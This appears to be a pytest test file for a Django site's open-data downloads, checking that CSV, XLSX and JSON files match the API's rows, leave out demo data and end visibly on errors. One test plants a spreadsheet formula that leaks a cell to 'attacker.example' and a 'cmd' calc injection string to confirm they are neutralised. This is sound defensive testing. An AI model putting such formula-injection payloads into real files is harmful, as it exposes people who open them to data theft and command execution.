"""Open data downloads: every public list as CSV, XLSX and JSON equals the API's rows for the same filters."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from hub.exchange.models import Challenge
from hub.network.models import Member
from hub.opendata import rows
from hub.opendata.datasets import datasets
from hub.partnerships.models import Financing
from hub.projects.models import Project
from tests.services.test_exchange_support import make_challenge

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'

# Each list with filters that narrow it (the same names as its page and its API), and whether the reference
# data give it rows under them.
CASES = {
    "countries": ({"q": "Indo"}, True),
    "members": ({"country": "ID", "kind": "regency"}, True),
    "memberships": ({"country": "TH"}, True),
    "role-terms": ({"role": "chair"}, True),
    "projects": ({"country": "ID"}, True),
    "indicators": ({}, True),
    "report-rows": ({"country": "ID"}, True),
    "published-figures": ({}, True),
    "meetings": ({"kind": "annual"}, True),
    "decisions": ({"kind": "annual"}, True),
    "action-plans": ({"country": "KH"}, True),
    "challenges": ({"country": "ID"}, True),
    "collaborations": ({}, False),
    "programmes": ({}, True),
    "partnerships": ({}, True),
    "opportunities": ({}, False),
    "investment": ({"group_by": "member"}, True),
}


@pytest.fixture
def a_challenge(personas):
    return make_challenge(personas["sumedang_officer"], published=True)


def test_every_published_list_has_a_case():
    assert set(CASES) == set(datasets())


def api_items(client, path: str, params: dict) -> list[dict]:
    if path == "/investment":  # figures, not a paginated list: its rows are the groups
        return client.get(f"/api/v1{path}", params).json()["groups"]
    if path == "/projects/{project_id}":  # each listed project's rows in the published M&E reports
        rows = []
        for p in api_items(client, "/projects", params):
            reports = client.get(f"/api/v1/projects/{p['id']}").json()["reports"]
            rows += [{**r, "project": {"id": p["id"], "slug": p["slug"], "title": p["title"]}} for r in reports]
        return sorted(rows, key=lambda r: (r["report_year"], r["appendix"], r["row"]))
    if path == "/meetings/{meeting_id}/decisions":  # each listed meeting's decisions, in the list's order
        meetings = api_items(client, "/meetings", params)
        return [d for m in meetings for d in client.get(f"/api/v1/meetings/{m['id']}/decisions").json()]
    items, offset = [], 0
    while True:
        response = client.get(f"/api/v1{path}", {**params, "limit": 500, "offset": offset})
        assert response.status_code == 200, response.content
        page = response.json()
        items.extend(page["items"])
        offset += 500
        if offset >= page["count"]:
            return items


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


def value_at(item: dict, name: str):
    value = item
    for part in name.split("."):
        value = value.get(part) if isinstance(value, dict) else None
    return value


def same_cell(cell, expected, *, spreadsheet: bool) -> bool:
    """A CSV or XLSX cell against the API's value, as the file writes it (text a spreadsheet would run keeps a
    leading apostrophe)."""
    if isinstance(expected, list | dict):
        return json.loads(cell) == expected
    if expected is None or expected == "":
        return cell in ("", None)  # an XLSX cell holds no empty text
    if isinstance(expected, str) and expected.startswith(("=", "+", "-", "@", "\t", "\r")):
        try:
            float(expected)
        except ValueError:
            expected = "'" + expected
    return cell == expected if spreadsheet else cell == str(expected)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("name", list(CASES))
def test_a_download_is_the_api_list_for_the_same_filters(client, a_challenge, name, fmt):
    params, has_rows = CASES[name]
    dataset = datasets()[name]
    expected = api_items(client, dataset.api_path, params)
    assert bool(expected) == has_rows
    response = client.get(f"/data/{name}.{fmt}", params)
    assert response.status_code == 200
    assert f'filename="ascn-{name}.{fmt}"' in response["Content-Disposition"]
    data = body(response)
    if fmt == "json":
        rows = json.loads(data)
        if "is_demo" not in dataset.schema.model_fields:  # added to every download: demo rows are flagged
            assert all(row.pop("is_demo") is False for row in rows)
        assert rows == expected
        return
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    else:
        sheet = load_workbook(io.BytesIO(data), read_only=True).active
        table = [list(row) for row in sheet.iter_rows(values_only=True)]
    header, rows = table[0], table[1:]
    assert header == [c.name for c in dataset.columns]
    assert len(rows) == len(expected)
    for row, item in zip(rows, expected, strict=True):
        for name_, cell in zip(header, row, strict=True):
            if name_ == "is_demo" and "is_demo" not in item:
                assert cell in ("False", False)
                continue
            assert same_cell(cell, value_at(item, name_), spreadsheet=fmt == "xlsx"), (name_, cell, item)


def test_dates_keep_their_precision(client):
    rows = json.loads(body(client.get("/data/members.json", {"country": "TH"})))
    chiang_mai = next(r for r in rows if r["slug"] == "chiang-mai")
    assert chiang_mai["joined_precision"] in {"year", "month", "day"}
    assert len(chiang_mai["joined"]) == {"year": 4, "month": 7, "day": 10}[chiang_mai["joined_precision"]]
    table = list(csv.DictReader(io.StringIO(body(client.get("/data/members.csv", {"country": "TH"})).decode())))
    assert next(r for r in table if r["slug"] == "chiang-mai")["joined"] == chiang_mai["joined"]


def test_formulas_are_neutralised_in_csv_and_xlsx(client):
    Member.objects.filter(slug="sumedang").update(name=FORMULA, local_name="+1+cmd|' /C calc'!A0")
    table = list(csv.reader(io.StringIO(body(client.get("/data/members.csv", {"country": "ID"})).decode())))
    cells = [cell for row in table for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells and "'+1+cmd|' /C calc'!A0" in cells
    sheet = load_workbook(io.BytesIO(body(client.get("/data/members.xlsx", {"country": "ID"})))).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    neutral = [c for c in values if c.value == "'" + FORMULA]
    assert neutral and neutral[0].data_type == "s"
    assert not any(c.data_type == "f" for c in values)
    # Numbers keep their sign: a longitude is a number, not neutralised text.
    assert any(isinstance(c.value, float) and c.value > 90 for c in values)
    # JSON is not for spreadsheets: it carries the text as it is.
    rows = json.loads(body(client.get("/data/members.json", {"country": "ID"})))
    assert FORMULA in [r["name"] for r in rows]


def test_demo_rows_are_left_out_unless_asked_for_and_flagged(client):
    Member.objects.filter(slug="sumedang").update(is_demo=True)
    Project.objects.filter(slug="wa-kepo").update(is_demo=True)
    slugs = [r["slug"] for r in json.loads(body(client.get("/data/members.json", {"country": "ID"})))]
    assert "sumedang" not in slugs and "dki-jakarta" in slugs
    table = list(csv.DictReader(io.StringIO(body(client.get("/data/members.csv")).decode())))
    assert "sumedang" not in [r["slug"] for r in table]
    with_demo = json.loads(body(client.get("/data/members.json", {"country": "ID", "include_demo": "true"})))
    flags = {r["slug"]: r["is_demo"] for r in with_demo}
    assert flags["sumedang"] is True and flags["dki-jakarta"] is False
    projects = list(csv.DictReader(io.StringIO(body(client.get("/data/projects.csv")).decode())))
    assert "wa-kepo" not in [r["slug"] for r in projects]
    projects = list(csv.DictReader(io.StringIO(body(client.get("/data/projects.csv?include_demo=true")).decode())))
    assert next(r for r in projects if r["slug"] == "wa-kepo")["is_demo"] == "True"


def test_demo_money_is_left_out_of_the_investment_figures_before_they_are_added_up(client):
    api_groups = client.get("/api/v1/investment", {"group_by": "member"}).json()["groups"]
    Financing.objects.update(is_demo=True)
    assert json.loads(body(client.get("/data/investment.json", {"group_by": "member"}))) == []
    with_demo = json.loads(body(client.get("/data/investment.json", {"group_by": "member", "include_demo": "true"})))
    assert [{k: v for k, v in g.items() if k != "is_demo"} for g in with_demo] == api_groups != []


def test_open_data_is_what_the_public_reads_whoever_downloads(client, personas, a_challenge):
    draft = make_challenge(personas["sumedang_officer"], title="Not yet published")
    assert draft.published is False
    client.force_login(personas["secretariat"])
    titles = [r["title"] for r in json.loads(body(client.get("/data/challenges.json")))]
    assert a_challenge.title in titles and "Not yet published" not in titles
    assert Challenge.objects.count() == 2


@pytest.mark.parametrize(
    ("url", "status", "names"),
    [
        ("/data/members.txt", 400, ["csv", "xlsx", "json"]),
        ("/data/members.csv?name=Bangkok", 400, ["name", "q", "country", "kind", "status", "joined", "as_of"]),
        ("/data/members.csv?joined=abc", 400, ["joined"]),
        ("/data/members.csv?as_of=2024-13-01", 400, ["as_of"]),
        ("/data/members.csv?include_demo=maybe", 400, ["include_demo"]),
        ("/data/published-figures.csv?year=2024", 400, ["include_demo"]),
        ("/data/nothing.csv", 404, []),
    ],
)
def test_bad_requests_are_refused_before_anything_is_sent(client, url, status, names):
    response = client.get(url)
    assert response.status_code == status
    assert not response.streaming
    for name in names:
        assert name in response.content.decode()


def test_an_error_in_the_first_rows_is_an_error_page_not_a_download(monkeypatch):
    def broken(dataset, chunk, context):
        raise RuntimeError("boom")

    monkeypatch.setattr(rows, "chunk_items", broken)
    response = Client(raise_request_exception=False).get("/data/members.csv")
    assert response.status_code == 500


def test_an_error_after_the_first_chunk_ends_the_file_visibly(client, monkeypatch):
    real = rows.chunk_items
    calls = {"n": 0}

    def fails_on_the_second_chunk(dataset, chunk, context):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("database went away")
        return real(dataset, chunk, context)

    monkeypatch.setattr(rows, "CHUNK", 3)
    monkeypatch.setattr(rows, "chunk_items", fails_on_the_second_chunk)
    csv_text = body(client.get("/data/members.csv")).decode()
    assert csv_text.rstrip().splitlines()[-1].startswith("ERROR: the download broke off")
    assert len(csv_text.rstrip().splitlines()) == 5  # the header, the first chunk's 3 rows, the error
    calls["n"] = 0
    json_text = body(client.get("/data/members.json")).decode()
    assert "broke off" in json_text
    with pytest.raises(json.JSONDecodeError):
        json.loads(json_text)


@pytest.mark.parametrize(
    ("name", "small", "large"),
    [
        ("members", {"country": "BN"}, {}),
        ("role-terms", {"role": "chair"}, {}),
        ("projects", {"country": "BN"}, {}),
        ("meetings", {"kind": "annual"}, {}),
        ("programmes", {"q": "Australia"}, {}),
        ("action-plans", {"country": "BN"}, {}),
        ("decisions", {"year": 2023}, {}),
        ("report-rows", {"country": "BN"}, {}),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_query_count_does_not_grow_with_the_rows(client, name, small, large, fmt):
    counts, sizes = [], []
    for params in (small, large):
        with CaptureQueriesContext(connection) as queries:
            data = body(client.get(f"/data/{name}.{fmt}", params))
        counts.append(len(queries))
        sizes.append(len(data))
    assert sizes[1] > sizes[0]
    assert counts[0] == counts[1]


def test_each_list_page_links_its_downloads_with_its_filters(client):
    html = client.get("/members/", {"country": "ID", "page": "1"}).content.decode()
    for fmt in ("csv", "xlsx", "json"):
        assert f'href="/data/members.{fmt}?country=ID"' in html
    pages = {
        "/countries/": "countries",
        "/governance/": "role-terms",
        "/projects/": "projects",
        "/meetings/": "meetings",
        "/challenges/": "challenges",
        "/collaborations/": "collaborations",
        "/partnerships/programmes/": "programmes",
        "/partnerships/": "partnerships",
        "/partnerships/opportunities/": "opportunities",
        "/partnerships/investment/": "investment",
    }
    for url, name in pages.items():
        html = client.get(url).content.decode()
        assert f'href="/data/{name}.csv"' in html, url
        assert f'href="/data/{name}.xlsx"' in html and f'href="/data/{name}.json"' in html, url
    assert 'href="/data/report-rows.csv?country=ID"' in client.get("/projects/", {"country": "ID"}).content.decode()
    assert 'href="/data/decisions.csv?kind=annual"' in client.get("/meetings/", {"kind": "annual"}).content.decode()
    # Lists without a page of their own sit on the record they belong to, narrowed to it.
    records = {
        "/members/sumedang/": "/data/memberships.csv?member=sumedang",
        "/projects/wa-kepo/": "/data/indicators.csv?project_slug=wa-kepo",
        "/members/battambang/action-plan/": "/data/action-plans.csv?member=battambang",
        "/monitoring/": "/data/published-figures.csv",
    }
    for url, link in records.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert f'href="{link}"' in response.content.decode(), url
        assert client.get(link).status_code == 200


def test_the_older_csv_addresses_also_end_visibly_when_they_break_off(client, monkeypatch):
    from hub.network import views as network_views

    real, calls = network_views.format_partial, {"n": 0}

    def fails_on_the_third(*args):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("database went away")
        return real(*args)

    monkeypatch.setattr(network_views, "format_partial", fails_on_the_third)
    response = client.get("/members.csv")
    assert response.status_code == 200
    lines = b"".join(response.streaming_content).decode().rstrip().splitlines()
    assert len(lines) == 4 and lines[-1].startswith("ERROR: the download broke off")
